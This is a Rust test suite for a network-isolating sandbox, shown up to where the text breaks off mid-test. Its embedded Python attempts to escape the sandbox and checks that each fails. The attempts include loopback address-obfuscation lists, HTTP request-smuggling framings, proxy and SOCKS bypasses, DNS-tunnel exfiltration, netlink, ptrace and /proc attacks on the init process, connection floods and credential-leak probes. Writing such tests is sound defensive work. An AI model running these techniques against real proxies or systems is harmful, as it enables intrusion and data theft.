//! Our own attempts, for parts that the corpus does not cover: the proxy, the lookups, the inherited descriptors, the
//! credentials, the init process and the terminals. Each has a name and a description. Each runs in a one-shot sandbox, in a
//! session and in a pool.
//!
//! Needs python3 and curl.

use std::collections::HashMap;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, TcpListener};
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};

use byleave_sandbox::launch::{CommandOutcome, CommandStatus, NetworkBridge};
use byleave_sandbox::net::address::AddressPolicy;
use byleave_sandbox::net::credential::{Credential, CredentialTransport};
use byleave_sandbox::net::egress::Egress;
use byleave_sandbox::net::tls_intercept::TlsInterceptor;
use byleave_sandbox::plan::CommandSpec;
use tokio::runtime::Runtime;

use crate::launch::text;
use crate::net::tls::FakeHttpsServer;
use crate::net::world::{FakeHostPolicy, FakeHttpServer, FakeResolver};
use crate::online::{ALL, LaunchMethod, NetworkedSandbox, runtime};
use byleave_testkit::user::unprivileged;

/// The common part of the attempts in Python: functions to send anything to the proxy, with the token of the
/// call.
const PRELUDE: &str = r#"
import array, base64, ctypes, fcntl, os, signal, socket, struct, sys, time
from urllib.parse import urlsplit
u = urlsplit(os.environ["http_proxy"])
PASS = "Proxy-Authorization: Basic %s\r\n" % base64.b64encode(f"{u.username}:{u.password}".encode()).decode() if u.username else ""
def everything(s):
    out = b""
    try:
        while part := s.recv(65536): out += part
    except OSError: pass
    return out.decode("latin1")
def line():
    s = socket.create_connection((u.hostname, u.port)); s.settimeout(120); return s
def say(text):
    s = line(); s.sendall(text.encode("latin1")); return everything(s)
def ask(request, headers="Connection: close\r\n", body=""):
    return say(f"{request} HTTP/1.1\r\n{PASS}{headers}\r\n{body}")
def tunnel(host, port):
    s = line(); s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n{PASS}\r\n".encode())
    head = s.recv(4096); return s if b" 200 " in head else None
def refused(what, *raising):
    try: what(*raising)
    except OSError as e: return True
    print("SUCCEEDED", what, raising)
def lookup(name, kind=1, at=("127.0.0.1", 53), wait=120):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(wait)
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1), at)
    answer = s.recv(4096); return answer[3] & 15, struct.unpack(">H", answer[6:8])[0], socket.inet_ntoa(answer[-4:])
"#;

/// The network outside: a granted host, another that is never granted, and a resolver.
struct NetworkFixture {
    runtime: Runtime,
    granted: FakeHttpServer,
    /// A server on this machine that trusts every client.
    trusting: FakeHttpServer,
    names: Arc<FakeResolver>,
}

impl NetworkFixture {
    fn new() -> Self {
        let runtime = runtime();
        let (granted, trusting) =
            runtime.block_on(async { (FakeHttpServer::hello().await, FakeHttpServer::hello().await) });
        let public: IpAddr = "192.0.2.7".parse().unwrap();
        let loopback: IpAddr = "127.0.0.1".parse().unwrap();
        let answers = HashMap::from([("rebinding.example", vec![vec![loopback], vec![public, loopback]])]);
        Self {
            runtime,
            granted,
            trusting,
            names: Arc::new(FakeResolver { answers, ..FakeResolver::default() }),
        }
    }

    fn online(&self, means: LaunchMethod) -> NetworkedSandbox {
        let ports = [80, 443, self.granted.port, self.trusting.port];
        NetworkedSandbox::new(
            means,
            NetworkBridge::with_runtime(self.runtime.handle().clone()).unwrap().with_ports(ports),
        )
    }

    fn door(&self, granted: &[&'static str]) -> Egress {
        let door = Egress::new(Arc::new(FakeHostPolicy::granting(granted)));
        door.with_resolver(Arc::<FakeResolver>::clone(&self.names))
            .with_address_policy(AddressPolicy::with_loopback())
    }

    /// The attempt with its port numbers filled in.
    fn python(&self, attempt: &str) -> CommandSpec {
        let attempt = attempt.replace("GRANTED", &self.granted.port.to_string());
        let attempt = attempt.replace("TRUSTING", &self.trusting.port.to_string());
        // Passed as an argument, because only the code that waits for the end writes the standard input.
        let argv = vec!["python3".into(), "-c".into(), (PRELUDE.to_owned() + &attempt).into()];
        CommandSpec { argv, ..CommandSpec::default() }
    }

    fn tried(&self, online: &NetworkedSandbox, attempt: &str, door: Egress) -> CommandOutcome {
        online.begin(&self.python(attempt), door).finish().unwrap_or_else(|error| panic!("{error}"))
    }
}

/// An attempt that leaves a trace if it succeeds: it prints `SUCCEEDED`, or a server outside was reached.
struct EscapeAttempt {
    name: &'static str,
    tries: &'static str,
    code: &'static str,
}

/// Opens as many connections as possible, half of them incomplete, until it gets the signal that they were
/// counted.
const FLOOD: &str = r#"
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
held = []
for n in range(1500):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((u.hostname, u.port))
    except BlockingIOError: pass
    held.append(s)
for s in held[:600]:
    try: s.send(f"GET http://h{id(s)}.example/ HTTP/1.1\r\n".encode())
    except OSError: pass
open("flooded", "w").close()
while not os.path.exists("counted"): time.sleep(0.01)
"#;

const ATTEMPTS: &[EscapeAttempt] = &[
    EscapeAttempt {
        name: "proxy-odd-address",
        tries: "this machine by addresses that a resolver would read otherwise than a rule, by each protocol of the proxy",
        code: r#"
for host in ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "0177.0.0.1", "[::ffff:127.0.0.1]", "[::1]", "0", "localhost",
             "127.0.0.1.", "a.example@127.0.0.1", "127.0.0.1#a.example", "[::ffff:7f00:1]", "[::]", "127.0.0.1%2fa.example",
             "a.example.127.0.0.1.nip.io", "[0:0:0:0:0:ffff:127.0.0.1%1]", "127。0。0。1", "ⅰ27.0.0.1"]:
    for request in [f"CONNECT {host}:TRUSTING", f"GET http://{host}:TRUSTING/", f"GET //{host}:TRUSTING/"]:
        answer = say((f"{request} HTTP/1.1\r\n{PASS}Connection: close\r\n\r\n").encode().decode("latin1"))
        if not answer.startswith("HTTP/1.1 4"): print("SUCCEEDED", request, answer)
    name = host.encode()
    s = line(); user = (u.username or "").encode(); word = (u.password or "").encode()
    s.sendall(b"\5\1\2" + b"\1" + bytes([len(user)]) + user + bytes([len(word)]) + word if user else b"\5\1\0")
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", TRUSTING))
    if "hello" in everything(s): print("SUCCEEDED by socks", host)
"#,
    },
    EscapeAttempt {
        name: "proxy-smuggled-request",
        tries: "a request for another host in what one reader takes for the body of the first and another does not",
        code: r#"
hidden = "GET /hidden HTTP/1.1\r\nHost: b.example\r\n\r\n"
for framing in [f"Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
                f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
                f"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}",
                f"Transfer-Encoding: chunked\r\n\r\n0;x=\"\r\n\r\n{hidden}\"\r\n\r\n",
                f"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: b.example\r\n\r\n{hidden}",
                f"Content-Length: +0\r\n\r\n{hidden}", f"Content-Length: 0x0\r\n\r\n{hidden}",
                f"X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
                f"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n{hidden}"]:
    s = line(); s.settimeout(1)
    s.sendall(f"POST http://a.example:GRANTED/ HTTP/1.1\r\n{PASS}{framing}".encode()); everything(s)
"#,
    },
    EscapeAttempt {
        name: "proxy-other-host-inside",
        tries: "another host by its name inside a tunnel that was granted: in the request, in a second one, as an absolute form",
        code: r#"
for request in ["GET / HTTP/1.1\r\nHost: b.example\r\n\r\n", "GET http://b.example/ HTTP/1.1\r\nHost: a.example:GRANTED\r\n\r\n",
                "GET /1 HTTP/1.1\r\nHost: a.example:GRANTED\r\n\r\nGET /hidden HTTP/1.1\r\nHost: b.example\r\n\r\n",
                "CONNECT b.example:TRUSTING HTTP/1.1\r\nHost: a.example:GRANTED\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: a.example:GRANTED\r\nX-Forwarded-Host: b.example\r\nHost : b.example\r\n\r\n"]:
    s = tunnel("a.example", GRANTED); s.sendall(request.encode()); answer = everything(s)
    if "403" not in answer and "400" not in answer: print("SUCCEEDED", request, answer)
"#,
    },
    EscapeAttempt {
        name: "proxy-second-request",
        tries: "another host by an absolute form on a connection whose first request was granted",
        code: r#"
s = line()
one = f"GET http://a.example:GRANTED/1 HTTP/1.1\r\n{PASS}\r\n"
s.sendall((one + one.replace("a.example:GRANTED/1", "127.0.0.1:TRUSTING/") + one.replace("a.example", "b.example")).encode())
answer = everything(s)
if answer.count("hello") != 1: print("SUCCEEDED", answer)
"#,
    },
    EscapeAttempt {
        name: "proxy-upgrade",
        tries: "to leave HTTP/1 by an upgrade to h2c or websocket, or by HTTP/2 outright, where requests are no longer read",
        code: r#"
for upgrade in ["Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
                "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\r\n"]:
    ask("GET http://a.example:GRANTED/", upgrade + "Connection: close\r\n")
for opening in ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]:
    s = tunnel("a.example", GRANTED); s.settimeout(1); s.sendall(opening.encode() + b"\0\0\0\4\0\0\0\0\0" + b"hidden")
    everything(s)
"#,
    },
    EscapeAttempt {
        name: "dns-tunnel",
        tries: "to tell somebody outside something in the names that are looked up",
        code: r#"
for n in range(300):
    name = ("%02d" % (n % 100)).join(["x" * 50] * 4)[:59] + f".{n}.b.example"
    code, answers, _ = lookup(name)
    if code != 5 or answers: print("SUCCEEDED", name)
for name in ["data.a.example", "a.example.b.example", "a.example\\.b", "xn--a.example"]:
    if lookup(name)[1]: print("SUCCEEDED", name)
"#,
    },
    EscapeAttempt {
        name: "dns-other-records",
        tries: "records that could carry something in, or lead elsewhere: TXT, MX, SRV, HTTPS, ANY, a zone, an update",
        code: r#"
for kind in [2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 251, 252, 255, 65535]:
    for name in ["a.example", "b.example"]:
        if lookup(name, kind)[1]: print("SUCCEEDED", kind, name)
"#,
    },
    EscapeAttempt {
        name: "dns-second-resolver",
        tries: "a resolver elsewhere, and one of its own that leads names to addresses of its choice",
        code: r#"
for at in ["8.8.8.8", "192.0.2.1", "198.18.0.1", "198.18.0.16", "127.0.0.2", "127.0.0.53", "169.254.169.254", "0.0.0.0"]:
    try:
        code, answers, _ = lookup("b.example", 1, (at, 53), 0.3)
        if answers: print("SUCCEEDED", at)
    except OSError: pass
    s = socket.socket(); s.settimeout(0.3)
    if at not in ("0.0.0.0",): refused(s.connect, (at, 53))
# Whatever says that a name is there, an address that we gave nobody leads nowhere.
lookup("a.example")
for at in ["198.18.0.17", "198.19.255.254", "198.18.0.0", "127.0.0.1", "10.0.0.1", "169.254.169.254", "::1", "::ffff:198.18.0.99"]:
    s = socket.socket(socket.AF_INET6 if ":" in at else socket.AF_INET); s.settimeout(3)
    try:
        s.connect((at, TRUSTING)); s.sendall(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")
        if "hello" in everything(s): print("SUCCEEDED", at)
    except OSError: pass
"#,
    },
    EscapeAttempt {
        name: "listener-squat",
        tries: "to listen in place of the proxy, the resolver or an address that stands for a name",
        code: r#"
refused(open, "/proc/sys/net/ipv4/ip_unprivileged_port_start", "w")
refused(open, "/proc/sys/net/ipv4/ip_nonlocal_bind", "w")
for port in [3128, 53, 80, 443, GRANTED, TRUSTING]:
    for at in ["0.0.0.0", "127.0.0.1", "198.18.0.16", "::", "::ffff:127.0.0.1"]:
        for option in [None, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:
            s = socket.socket(socket.AF_INET6 if ":" in at else socket.AF_INET)
            if option: s.setsockopt(socket.SOL_SOCKET, option, 1)
            try: s.bind((at, port)); s.listen()
            except OSError: continue
            # A socket for IPv6 alone beside ours takes nothing that was meant for it.
            c = socket.socket(); c.settimeout(2); c.connect(("127.0.0.1", port)); s.settimeout(0.2)
            try: s.accept(); print("SUCCEEDED", port, at, option)
            except OSError: pass
"#,
    },
    EscapeAttempt {
        name: "network-reconfigure",
        tries: "to change the network that it is in: routes, addresses, the loopback, another namespace",
        code: r#"
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
def tell(kind, body):
    s.sendall(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    code = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if code == 0: raise SystemExit("SUCCEEDED netlink %d" % kind)
tell(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHi", 8, 4, 1))
tell(20, struct.pack("=BBBBI", 2, 8, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 0, 0, 1])))
tell(16, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1))
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x40000000) == 0 or libc.setns(os.open("/proc/self/ns/net", 0), 0) == 0: print("SUCCEEDED namespace")
for family, kind in [(2, 3), (17, 3), (40, 1), (16, 2)]:
    refused(socket.socket, family, kind, 12 if family == 16 else 255)
"#,
    },
    EscapeAttempt {
        name: "first-process-descriptors",
        tries: "the leash and whatever else the first process holds, through its files, by its descriptor, by tracing",
        code: r#"
for name in ["fd", "fdinfo", "task/1/fd", "map_files", "ns"]:
    refused(os.listdir, "/proc/1/" + name) if name != "ns" else None
for n in range(64):
    refused(os.readlink, f"/proc/1/fd/{n}"); refused(os.open, f"/proc/1/fd/{n}", os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
first = libc.syscall(434, 1, 0)
for n in range(16):
    if libc.syscall(438, first, n, 0) >= 0: print("SUCCEEDED pidfd_getfd", n)
for request in [16, 0x4206]:
    if libc.ptrace(request, 1, 0, 0) == 0: print("SUCCEEDED ptrace", request)
room = ctypes.create_string_buffer(64); vec = struct.pack("PN", ctypes.addressof(room), 64)
if libc.syscall(310, 1, vec, 1, struct.pack("PN", 0x400000, 64), 1, 0) > 0: print("SUCCEEDED process_vm_readv")
# Its own: three streams and nothing of ours.
for n in os.listdir("/proc/self/fd"):
    try: to = os.readlink("/proc/self/fd/" + n)
    except OSError: continue
    if "socket" in to or "memfd" in to or "pidfd" in to and int(n) != first: print("SUCCEEDED", n, to)
for known in open("/proc/net/unix").read().splitlines()[1:]:
    path = known.split()[7:]
    if path: print("SUCCEEDED a local socket is there:", known)
"#,
    },
    EscapeAttempt {
        name: "first-process-rewrite",
        tries: "to change the program, the memory or the variables of the first process, or read them",
        code: r#"
for name in ["exe", "mem", "environ", "maps", "auxv", "stack", "syscall", "cwd", "root", "io", "timers", "personality", "pagemap"]:
    for flags in [os.O_RDONLY, os.O_WRONLY, os.O_RDWR]:
        try:
            f = os.open("/proc/1/" + name, flags)
            if flags != os.O_RDONLY or os.read(f, 64): print("SUCCEEDED", name, flags)
        except OSError: pass
    if name in ("exe", "cwd", "root"): refused(os.readlink, "/proc/1/" + name)
for name, value in [("oom_score_adj", "1000"), ("comm", "x"), ("coredump_filter", "ff"), ("setgroups", "allow"), ("uid_map", "0 0 1"),
                    ("attr/current", "x"), ("clear_refs", "1"), ("loginuid", "0"), ("sched", "0"), ("timerslack_ns", "1")]:
    def write(name=name, value=value):
        f = os.open("/proc/1/" + name, os.O_WRONLY); os.write(f, value.encode())
    refused(write)
libc = ctypes.CDLL(None, use_errno=True)
for resource in range(16):
    if libc.prlimit(1, resource, struct.pack("QQ", 0, 0), None) == 0: print("SUCCEEDED prlimit", resource)
"#,
    },
    EscapeAttempt {
        name: "our-files-rewrite",
        tries: "to put an authority or a resolver of its own in place of ours, for the commands that come after it",
        code: r#"
for path in ["/dev/byleave/resolv.conf", "/etc/resolv.conf"]:
    refused(os.open, path, os.O_WRONLY); refused(os.unlink, path); refused(os.chmod, path, 0o666)
    refused(os.rename, path, "/tmp/x"); refused(os.truncate, path, 0); refused(os.utime, path); refused(os.link, path, "/tmp/y")
refused(os.open, "/dev/byleave/new", os.O_CREAT | os.O_WRONLY); refused(os.rename, "/dev/byleave", "/dev/other")
refused(os.rmdir, "/dev/byleave"); refused(os.symlink, "/tmp", "/dev/byleave/link"); refused(os.chmod, "/dev/byleave", 0o777)
refused(os.mkdir, "/dev/mine")
libc = ctypes.CDLL(None, use_errno=True)
for args in [(b"x", b"/dev/byleave", b"tmpfs", 0, None), (None, b"/dev/byleave", None, 32 | 4096, None), (b"/tmp", b"/dev/byleave", None, 4096, None)]:
    if libc.mount(*args) == 0: print("SUCCEEDED mount")
if libc.umount2(b"/dev/byleave", 2) == 0 or libc.umount2(b"/etc/resolv.conf", 2) == 0: print("SUCCEEDED umount")
"#,
    },
    EscapeAttempt {
        name: "first-process-signals",
        tries: "to end or stop the first process by every signal there is, in every way to send one",
        code: r#"
libc = ctypes.CDLL(None, use_errno=True)
first = libc.syscall(434, 1, 0)
for number in range(1, 65):
    try: os.kill(1, number)
    except OSError: pass
    libc.syscall(424, first, number, None, 0); libc.syscall(234, 1, 1, number)
    room = struct.pack("iiii", number, 0, -1, 0) + bytes(112); libc.syscall(129, 1, number, room); libc.syscall(297, 1, 1, number, room)
# Whoever is orphaned is waited for by it, if it still lives.
child = os.fork()
if child == 0:
    if os.fork() == 0: os._exit(0)
    os._exit(0)
os.waitpid(child, 0)
while any(open(f"/proc/{n}/stat").read().split()[2] == "Z" for n in os.listdir("/proc") if n.isdigit() and os.path.exists(f"/proc/{n}/stat")):
    time.sleep(0.01)
if os.getppid() != 1: print("SUCCEEDED")
"#,
    },
];

// req: E7
#[test]
fn every_attempt_of_our_own_is_held_by_a_one_shot_sandbox() {
    every_attempt_of_our_own_is_held("by_a_one_shot_sandbox", LaunchMethod::OneShot);
}

// req: E7
#[test]
fn every_attempt_of_our_own_is_held_by_a_session() {
    every_attempt_of_our_own_is_held("by_a_session", LaunchMethod::Session);
}

// req: E7
#[test]
fn every_attempt_of_our_own_is_held_by_a_pool() {
    every_attempt_of_our_own_is_held("by_a_pool", LaunchMethod::Pool);
}

fn every_attempt_of_our_own_is_held(by: &str, means: LaunchMethod) {
    if !unprivileged(&format!("escapes_own::every_attempt_of_our_own_is_held_{by}")) {
        return;
    }
    let names: std::collections::BTreeSet<_> = ATTEMPTS.iter().map(|attempt| attempt.name).collect();
    assert_eq!(names.len(), ATTEMPTS.len());
    let mut escaped = Vec::new();
    let world = NetworkFixture::new();
    let online = world.online(means);
    for attempt in ATTEMPTS {
        let began = std::time::Instant::now();
        let outcome = world.tried(&online, attempt.code, world.door(&["a.example"]));
        let told = text(&outcome.stdout) + &text(&outcome.stderr);
        let seen = world.granted.seen().to_lowercase();
        let reached = world.trusting.connections() > 0
            || world.names.lookups.load(Ordering::SeqCst) > world.granted.connections()
            || ["hidden", "b.example", "upgrade", "http2", "proxy-authorization"]
                .iter()
                .any(|word| seen.contains(word));
        // An attempt that crashed has shown nothing.
        let held = !reached && !told.contains("SUCCEEDED") && outcome.status == CommandStatus::Exited(0);
        println!(
            "{:28} {} {means:?} {} ms: {}",
            attempt.name,
            if held { "held" } else { "ESCAPED" },
            began.elapsed().as_millis(),
            attempt.tries
        );
        if !held {
            escaped.push(format!("{} {means:?}: {:?} {told} {seen}", attempt.name, outcome.status));
        }
    }
    // The proxy still works for the granted host.
    let outcome =
        world.tried(&online, "print(ask('GET http://a.example:GRANTED/'))", world.door(&["a.example"]));
    assert!(text(&outcome.stdout).contains("hello"), "{outcome:?}");
    assert!(escaped.is_empty(), "{} escaped: {escaped:#?}", escaped.len());
}

// req: E7
#[test]
fn a_name_that_changes_where_it_leads_does_not_lead_to_this_machine() {
    if !unprivileged("escapes_own::a_name_that_changes_where_it_leads_does_not_lead_to_this_machine") {
        return;
    }
    for means in ALL {
        let world = NetworkFixture::new();
        let online = world.online(means);
        let door = Egress::new(Arc::new(FakeHostPolicy::granting(&["rebinding.example"])));
        let attempt = r#"
for n in range(4):
    ask("GET http://rebinding.example:TRUSTING/")
    if s := tunnel("rebinding.example", TRUSTING): s.sendall(b"GET / HTTP/1.1\r\n\r\n"); s.close()
for at in [lookup("rebinding.example")[2]] * 4:
    s = socket.create_connection((at, TRUSTING)); s.settimeout(120)
    s.sendall(b"GET / HTTP/1.1\r\nHost: rebinding.example\r\n\r\n"); everything(s)
"#;
        let outcome =
            world.tried(&online, attempt, door.with_resolver(Arc::<FakeResolver>::clone(&world.names)));
        assert_eq!(outcome.status, CommandStatus::Exited(0), "{outcome:?}");
        assert_eq!(
            (world.trusting.connections(), outcome.network.decisions.iter().any(|one| one.is_allowed)),
            (0, false)
        );
        assert!(
            world.names.lookups.load(Ordering::SeqCst) >= 12,
            "each connection is judged by where it leads itself"
        );
    }
}

/// Waits for a file that the other side makes.
fn until(path: &std::path::Path) {
    let began = std::time::Instant::now();
    while !path.exists() {
        assert!(began.elapsed().as_secs() < 120, "{}", path.display());
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
}

// req: E7
#[test]
fn a_connection_handed_to_another_command_ends_with_the_call_that_it_was_granted_to() {
    if !unprivileged(
        "escapes_own::a_connection_handed_to_another_command_ends_with_the_call_that_it_was_granted_to",
    ) {
        return;
    }
    for means in [LaunchMethod::Session, LaunchMethod::Pool] {
        let world = NetworkFixture::new();
        let online = world.online(means);
        let taker = r#"
meeting = socket.socket(socket.AF_UNIX); meeting.bind("/tmp/meeting"); meeting.listen(); open("listening", "w").close()
_, control, _, _ = (c := meeting.accept()[0]).recvmsg(1, 256)
handed = array.array("i"); handed.frombytes(control[0][2]); c.sendall(b"!")
while not os.path.exists("over"): time.sleep(0.01)
for fd in handed:
    s = socket.socket(fileno=fd); s.settimeout(5)
    try: s.sendall(b"GET /later HTTP/1.1\r\nHost: a.example:GRANTED\r\n\r\n")
    except OSError: pass
    if "hello" in everything(s): print("SUCCEEDED")
"#;
        let taker = online.begin(&world.python(taker), world.door(&[]));
        until(&online.path().join("listening"));
        let giver = r#"
proxied = tunnel("a.example", GRANTED); proxied.sendall(b"GET /first HTTP/1.1\r\nHost: a.example:GRANTED\r\n\r\n")
got = b""
while b"hello" not in got: got += proxied.recv(4096)
waiting = [line() for _ in range(3)]
# Not accepted by the time that this ends, perhaps.
lost = socket.socket(); lost.setblocking(False); lost.connect_ex(("198.18.0.16", GRANTED))
meeting = socket.socket(socket.AF_UNIX); meeting.connect("/tmp/meeting")
fds = array.array("i", [s.fileno() for s in [proxied, lost] + waiting])
meeting.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)]); meeting.recv(1)
"#;
        let outcome = world.tried(&online, giver, world.door(&["a.example"]));
        assert_eq!(outcome.status, CommandStatus::Exited(0), "{outcome:?}");
        fs::write(online.path().join("over"), "").unwrap();
        let taker = taker.finish().unwrap();
        assert_eq!((taker.status, text(&taker.stdout).as_str()), (CommandStatus::Exited(0), ""), "{taker:?}");
        let seen = world.granted.seen();
        assert!(seen.contains("/first") && !seen.contains("/later"), "{means:?} {seen}");
        assert!(taker.network.decisions.iter().all(|one| !one.is_allowed), "{:?}", taker.network);
    }
}

// req: E7
#[test]
fn a_connection_that_a_dead_call_left_waiting_is_not_the_next_ones() {
    if !unprivileged("escapes_own::a_connection_that_a_dead_call_left_waiting_is_not_the_next_ones") {
        return;
    }
    for means in [LaunchMethod::Session, LaunchMethod::Pool] {
        let world = NetworkFixture::new();
        let online = world.online(means);
        // The whole session knows the address of a name.
        let address = world.tried(&online, "print(lookup('b.example')[2])", world.door(&["b.example"]));
        assert_eq!(text(&address.stdout), "198.18.0.16\n");
        for _ in 0..3 {
            // Uses all connections, so that the last ones wait in the kernel when this ends.
            let leave = r#"
held = [line() for _ in range(400)]
for n in range(20):
    s = socket.create_connection(("198.18.0.16", GRANTED)); s.sendall(b"GET /stolen HTTP/1.1\r\nHost: b.example:GRANTED\r\n\r\n")
    held.append(s)
os.kill(os.getpid(), 9)
"#;
            world.tried(&online, leave, world.door(&[]));
            let next = "s = socket.create_connection(('198.18.0.16', GRANTED)); s.settimeout(120)
s.sendall(b'GET /own HTTP/1.1\\r\\nHost: b.example:GRANTED\\r\\nConnection: close\\r\\n\\r\\n'); print(everything(s))";
            let outcome = world.tried(&online, next, world.door(&["b.example"]));
            assert!(text(&outcome.stdout).contains("hello"), "{means:?} {outcome:?}");
            assert_eq!(outcome.network.decisions.len(), 1, "{means:?} {:?}", outcome.network);
        }
        let seen = world.granted.seen();
        assert!(!seen.contains("/stolen") && seen.matches("/own").count() == 3, "{means:?} {seen}");
    }
}

// req: E7
#[test]
fn a_flood_of_connections_takes_neither_descriptors_nor_the_other_sessions() {
    if !unprivileged("escapes_own::a_flood_of_connections_takes_neither_descriptors_nor_the_other_sessions") {
        return;
    }
    for means in ALL {
        let world = NetworkFixture::new();
        let (online, other) = (world.online(means), world.online(LaunchMethod::Session));
        let open = || fs::read_dir("/proc/self/fd").unwrap().count();
        let before = open();
        let flood = online.begin(&world.python(FLOOD), world.door(&["a.example"]));
        until(&online.path().join("flooded"));
        let greeted =
            world.tried(&other, "print(ask('GET http://a.example:GRANTED/'))", world.door(&["a.example"]));
        assert!(text(&greeted.stdout).contains("hello"), "{greeted:?}");
        assert!(open() < before + 700, "{means:?}: {} descriptors, before {before}", open());
        fs::write(online.path().join("counted"), "").unwrap();
        let flood = flood.finish().unwrap();
        assert_eq!(flood.status, CommandStatus::Exited(0), "{flood:?}");
        assert!(flood.network.decisions.len() <= 1024, "{}", flood.network.decisions.len());
    }
}

const SECRET: &str = "hunter2secret";

/// A host that echoes every request, and redirects on request. Returns the port and the received text.
fn echoing(elsewhere: u16) -> (u16, Arc<Mutex<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(String::new()));
    let remembered = Arc::clone(&seen);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let remembered = Arc::clone(&remembered);
            std::thread::spawn(move || {
                let (mut head, mut byte) = (Vec::new(), [0]);
                while !head.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                remembered.lock().unwrap().push_str(&head);
                let found =
                    head.lines().find_map(|line| line.strip_prefix("authorization: ")).unwrap_or("none");
                let (status, more) = match head.contains("/redirect") {
                    true => ("302 Found", format!("Location: http://a.example:{elsewhere}/?{found}\r\n")),
                    false => ("200 OK", String::new()),
                };
                let answer = format!(
                    "HTTP/1.1 {status}\r\n{more}X-Echo: {found}\r\nSet-Cookie: {found}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{head}",
                    head.len()
                );
                // In chunks, as over a real connection.
                for piece in answer.as_bytes().chunks(7) {
                    if stream.write_all(piece).is_err() {
                        return;
                    }
                }
            });
        }
    });
    (port, seen)
}

// req: E7
#[test]
fn a_credential_goes_to_its_host_and_nowhere_else() {
    if !unprivileged("escapes_own::a_credential_goes_to_its_host_and_nowhere_else") {
        return;
    }
    for means in ALL {
        let world = NetworkFixture::new();
        let (echo, seen) = echoing(world.granted.port);
        let (plain, plain_seen) = echoing(world.granted.port);
        let secure = world.runtime.block_on(FakeHttpsServer::start());
        let interception = Arc::new(TlsInterceptor::towards(secure.trusting()).unwrap());
        let uplink = NetworkBridge::with_runtime(world.runtime.handle().clone())
            .unwrap()
            .with_interceptor(Arc::clone(&interception));
        let online = NetworkedSandbox::new(means, uplink);
        let forged = rcgen::generate_simple_self_signed(["b.example".to_owned()]).unwrap();
        fs::write(online.path().join("c.pem"), forged.cert.pem()).unwrap();
        fs::write(online.path().join("k.pem"), forged.signing_key.serialize_pem()).unwrap();
        let door = || {
            let value = format!("Bearer {SECRET}");
            let credential =
                |host, port, over| Credential::new(host, port, over, "Authorization", value.clone()).unwrap();
            let credentials = vec![
                credential("echo.example", echo, CredentialTransport::Plain),
                credential("echo.example", plain, CredentialTransport::Tls),
                credential("a.example", secure.port, CredentialTransport::Tls),
            ];
            let door = world.door(&["echo.example", "a.example", "b.example"]);
            door.with_credentials(credentials, Some(Arc::clone(&interception))).unwrap()
        };
        let attempt = r#"
import ssl, subprocess
told = []
# Everything that a client can ask for to have it sent back in another form.
for method in ["GET", "POST", "OPTIONS", "PUT", "get", "TRACE", "HEAD"]:
    for more in ["", "Accept-Encoding: gzip, br\r\n", "Range: bytes=0-40\r\n", "Connection: authorization\r\n", "Authorization: mine\r\n",
                 "AUTHORIZATION: mine\r\nAuthorization: mine\r\n", "Connection: close, Authorization\r\nTE: trailers\r\n",
                 "X-HTTP-Method-Override: TRACE\r\nMax-Forwards: 0\r\n", "Expect: 100-continue\r\nContent-Length: 0\r\n"]:
        told.append(ask(f"{method} http://echo.example:ECHO/", more + "Connection: close\r\n"))
told.append(say(f"GET http://echo.example:ECHO/ HTTP/1.0\r\n{PASS}\r\n"))
s = tunnel("echo.example", ECHO); s.sendall(b"GET / HTTP/1.1\r\nHost: echo.example:ECHO\r\n\r\n"); told.append(everything(s))
# Sent elsewhere, by the host itself.
told.append(subprocess.run(["curl", "-sS", "-L", "--location-trusted", "-v", "http://echo.example:ECHO/redirect"], capture_output=True, text=True, errors="replace"))
# The right host by another port, without TLS, and by an address that asks the proxy for TLS.
told.append(ask("GET http://echo.example:GRANTED/"))
told.append(ask("GET http://echo.example:PLAIN/", "Authorization: mine\r\nConnection: close\r\n"))
told.append(ask("GET https://echo.example:PLAIN/"))
told.append(ask("GET http://a.example:SECURE/"))
# The authority asked for a certificate of another name, and for one that it could sign with.
